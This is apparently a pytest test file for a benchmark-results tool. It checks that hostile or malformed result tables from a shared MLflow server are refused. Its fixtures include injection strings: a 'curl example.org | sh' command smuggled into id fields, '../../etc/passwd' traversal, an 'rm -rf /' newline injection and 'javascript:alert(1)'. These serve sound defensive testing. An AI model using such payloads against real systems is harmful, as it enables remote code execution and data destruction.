"""Tables that somebody may have put on a shared server: one that cannot be right is refused as a whole, before a verb sees it."""

from __future__ import annotations

import math
import time
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from functools import partial
from pathlib import Path
from threading import Event
from typing import Any

import pandas as pd
import pytest

from benchmarks import seed_server
from mlflow_ngraph.analysis import results, table_cache
from mlflow_ngraph.analysis.listing import ListedRun, Server
from mlflow_ngraph.analysis.table_cache import TableCache
from mlflow_ngraph.analysis.table_checks import BadTableError, parsed
from mlflow_ngraph.tables.results import from_record
from mlflow_ngraph.tracking.schema import Tag
from mlflow_ngraph.ui.store import ResultStore

RECORD = seed_server.study_record(0, 0)
TABLE = from_record(RECORD, "0" * 32).head(12)
SHELL = "m-1; curl example.org | sh #"


def listed(run_id: str = "0" * 32, digest: str = "") -> ListedRun:
    return ListedRun(run_id, "theirs", "1", "", {Tag.STUDY_ID: RECORD.id, Tag.RESULTS_SHA256: digest})


def written(table: pd.DataFrame) -> bytes:
    return table.to_parquet(index=False)


def first(name: str, value: Any) -> pd.DataFrame:
    """The table with one other value in its first row."""
    column = TABLE[name].astype(object)
    column.iloc[0] = value
    return TABLE.assign(**{name: column})


NULL_NAMES = ("study", "label", "compiler", "compiler_label", "device", "workload", "precision", "mode", "verdict", "cell", "lane")  # fmt: skip
IDS = ("study_id", "cell", "lane", "lane_run_id", "model_id", "engine", "engine_reused", "beaten_by")
RATES = ("throughput", "latency_p50_ms", "latency_p99_ms", "speedup", "rtr", "ase", "bsr", "throughput_mean")
HOSTILE: dict[str, Callable[[], pd.DataFrame]] = {
    **{f"no {name}": partial(first, name, None) for name in NULL_NAMES},
    **{f"shell in {name}": partial(first, name, SHELL) for name in IDS},
    **{f"zero {name}": partial(first, name, 0.0) for name in RATES},
    **{f"negative {name}": partial(first, name, -1.0) for name in (*RATES, "compile_total_s", "peak_memory_mb")},
    **{f"infinite {name}": partial(first, name, math.inf) for name in ("throughput", "speedup", "cpu_percent")},
    **{f"beside its interval: {name}": partial(first, name, 3.0 * TABLE[name].iloc[0]) for name in ("throughput", "speedup")},
    "interval without a figure": lambda: first("throughput", math.nan),
    "interval upside down": lambda: TABLE.assign(
        throughput_ci_low=TABLE["throughput_ci_high"], throughput_ci_high=TABLE["throughput_ci_low"]
    ),
    "an hour ahead": lambda: TABLE.assign(started_at=time.time() + 3600),
    "ends an hour ahead": lambda: TABLE.assign(finished_at=time.time() + 3600),
    "before all time": lambda: TABLE.assign(started_at=-1.0),
    "option for an id": lambda: first("model_id", "--help"),
    "path for an id": lambda: first("lane_run_id", "../../etc/passwd"),
    "quotes in an id": lambda: first("model_id", "m-'1'"),
    "newline in an id": lambda: first("model_id", "m-1\nrm -rf /"),
    "id of 300 characters": lambda: first("model_id", "m" * 300),
    "link for an id": lambda: first("model_id", "javascript:alert(1)"),
    "no ASCII in an id": lambda: first("model_id", "m-\u0661"),
    "fraction of a batch": lambda: TABLE.assign(batch=0.5),
    "text for batch": lambda: TABLE.assign(batch="many"),
    "negative threads": lambda: TABLE.assign(threads=-1),
    "negative parameters": lambda: TABLE.assign(parameters=-1),
    "numbers for names": lambda: TABLE.assign(compiler_label=None),
    "lists for names": lambda: TABLE.assign(label=[["a"]] * len(TABLE)),
    "truths for rates": lambda: TABLE.assign(throughput=[[True]] * len(TABLE)),
    "an error without bounds": lambda: TABLE.assign(throughput_log_se=math.inf),
    "no freedom": lambda: TABLE.assign(throughput_log_se=0.1, throughput_df=0.0),
    "another verdict": lambda: TABLE.assign(verdict="OK"),
    "flags that are a list": lambda: TABLE.assign(flags="[1]"),
    "deep flags": lambda: TABLE.assign(flags="[" * 100_000),
    "rounds of words": lambda: TABLE.assign(log_medians='{"0.0": "1"}'),
    "two studies": lambda: first("study_id", "another"),
    "no row of its own study": lambda: TABLE.assign(study_id="another"),
    "other columns": lambda: pd.DataFrame({"a": [1]}),
}  # fmt: skip


@pytest.mark.parametrize("kind", HOSTILE)
def test_a_table_that_cannot_be_right_is_refused_in_one_line(kind: str) -> None:
    with pytest.raises(BadTableError) as refused:
        parsed(written(HOSTILE[kind]()), listed())
    assert str(refused.value).startswith(f"run {'0' * 32} of experiment 'theirs': results.parquet ")
    assert not set("\n\x1b") & set(str(refused.value))
    assert len(str(refused.value)) < 500


def test_what_a_study_wrote_is_read() -> None:
    assert parsed(written(TABLE), listed()).num_rows == len(TABLE)
    noisy = TABLE.assign(**dict.fromkeys(("throughput", "throughput_ci_low", "throughput_ci_high"), math.nan))
    assert parsed(written(noisy), listed()).num_rows == len(TABLE)


def test_a_row_belongs_to_the_run_in_which_its_table_lies() -> None:
    table = parsed(written(TABLE.assign(run_id="f" * 32, experiment="mine", tracking_uri="elsewhere")), listed())
    frame = results.joined([("server", listed(), table)], None)
    assert set(frame["run_id"]) == {"0" * 32}
    assert set(frame["experiment"]) == {"theirs"}
    assert set(frame["tracking_uri"]) == {"server"}


class Store(Server):
    """A store whose tables are those of a mapping; counts how often they are fetched."""

    def __init__(self, tables: dict[str, bytes], tmp_path: Path) -> None:
        super().__init__(f"sqlite:///{tmp_path}/mlflow.db")
        self.tables, self.fetched = tables, 0

    def results_without_mlflow(self, run: ListedRun) -> bytes | None:
        self.fetched += 1
        return self.tables.get(run.run_id)


def test_refusals_are_remembered_and_few_are_named(tmp_path: Path) -> None:
    bad, good = written(first("throughput", 0.0)), written(TABLE)
    tables = {f"{number:032x}": good if number == 7 else bad for number in range(100)}
    runs = [listed(run_id, table_cache._digest(content)) for run_id, content in tables.items()]
    store, cache = Store(tables, tmp_path), TableCache(tmp_path / "cache")
    for _ in range(2):
        notes: list[str] = []
        read = table_cache.read(store, runs, None, cache, notes.append, patient=False)
        assert [run.run_id for run, _ in read] == [f"{7:032x}"]
        assert len(notes) == 4
        assert notes[3].startswith("96 more tables are left out")
        assert store.fetched == 100
    again = [listed(f"{7:032x}", runs[7].digest), listed(f"{8:032x}", table_cache._digest(good))]
    store.tables[f"{8:032x}"] = good
    assert len(table_cache.read(store, again, None, cache, notes.append, patient=False)) == 2


def test_what_is_no_digest_names_no_file_of_the_cache() -> None:
    assert listed(digest="../../../etc/passwd").digest == ""
    assert listed(digest="0" * 64).digest == "0" * 64


def test_a_run_that_is_slow_to_fetch_holds_up_no_other(tmp_path: Path) -> None:
    good = written(TABLE)
    slow, quick = (listed(f"{number:032x}", table_cache._digest(good)) for number in range(2))
    store, reached, go_on = ResultStore(f"sqlite:///{tmp_path}/mlflow.db"), Event(), Event()
    store._cache = TableCache(tmp_path / "cache")
    store._deleted = lambda *_: frozenset()  # type: ignore[method-assign]

    def fetch(run_id: str, _: str) -> bytes:
        if run_id == slow.run_id:
            reached.set()
            assert go_on.wait(60)
        return good

    with ThreadPoolExecutor(1) as pool:
        waiting = pool.submit(store.newest, [slow], fetch)
        assert reached.wait(60)
        assert set(store.newest([quick], fetch).cells["run_id"]) == {quick.run_id}
        go_on.set()
        assert set(waiting.result().cells["run_id"]) == {slow.run_id}
